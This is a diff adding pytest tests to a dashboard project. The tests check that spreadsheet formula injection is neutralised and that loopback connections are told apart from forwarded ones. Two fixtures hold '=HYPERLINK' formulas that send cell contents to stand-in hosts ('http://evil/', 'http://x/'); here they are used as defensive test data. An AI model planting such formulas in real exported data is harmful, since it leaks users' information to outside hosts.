@@ -83,3 +83,54 @@ def test_an_out_of_range_date_link_shows_the_overview_with_a_note(tiny_db_file, 
 
 def test_no_environment_leaks_into_the_command():
     assert "REACH_INGEST_SECRET" not in " ".join(cli.streamlit_command(8501)) and os.sep in cli.streamlit_command(1)[0]
+
+
+def test_formula_like_text_is_inert_and_numbers_stay_numbers():
+    import pandas as pd
+
+    from dashboard.spreadsheet_safety import formula_safe
+
+    table = pd.DataFrame({
+        "title": ['=HYPERLINK("http://x/?leak="&B2,"Open agenda")', "+7 495", "-ok", "@SUM(A1)", "\tTab", "\rCR",
+                  "Plain", None],
+        "participants": [1, 2, 3, 4, 5, 6, -7, 8],
+    })  # fmt: skip
+    safe = formula_safe(table)
+    assert safe["title"].tolist()[:7] == ["'=HYPERLINK(\"http://x/?leak=\"&B2,\"Open agenda\")", "'+7 495", "'-ok",
+                                          "'@SUM(A1)", "'\tTab", "'\rCR", "Plain"]  # fmt: skip
+    assert pd.isna(safe["title"].iloc[7])  # a missing title stays missing
+    assert safe["participants"].tolist() == [1, 2, 3, 4, 5, 6, -7, 8]
+    assert table["title"][0].startswith("=")  # the original is left as it was
+
+
+def test_a_hostile_webinar_title_is_text_in_the_overview_table(tiny_db_file, monkeypatch):
+    from dashboard import database
+
+    con = database.connect(tiny_db_file)
+    con.execute("""update events set title = '=HYPERLINK("http://evil/?leak="&B2,"Open agenda")' where event_key = 'w1'""")
+    with database.transaction(con):
+        database.refresh(con)
+    con.close()
+    monkeypatch.setenv("REACH_DB", str(tiny_db_file))
+    at = AppTest.from_file(str(APP_SCRIPT), default_timeout=60)
+    at.query_params["lang"] = "en"
+    at.run()
+    assert not at.exception
+    titles = at.dataframe[0].value["Webinar"].tolist()
+    assert titles[0] == "'=HYPERLINK(\"http://evil/?leak=\"&B2,\"Open agenda\")"  # Streamlit's own download: text
+
+
+@pytest.mark.parametrize(("headers", "direct"), [
+    ({}, True),
+    ({"Host": "localhost:8501"}, True),
+    ({"Host": "127.0.0.1:8501"}, True),
+    ({"Host": "[::1]:8501"}, True),
+    ({"Host": "192.168.1.20:9000"}, False),  # a TCP forwarder: the browser elsewhere used this name
+    ({"Host": "reach.example.org"}, False),
+    ({"Host": "localhost:8501", "X-Forwarded-For": "10.0.0.7"}, False),  # an HTTP proxy
+    ({"Host": "localhost:8501", "Forwarded": "for=10.0.0.7"}, False),
+])  # fmt: skip
+def test_a_loopback_connection_is_this_computer_only_when_nothing_forwards_it(headers, direct):
+    from dashboard.ui import reached_directly
+
+    assert reached_directly(headers) is direct
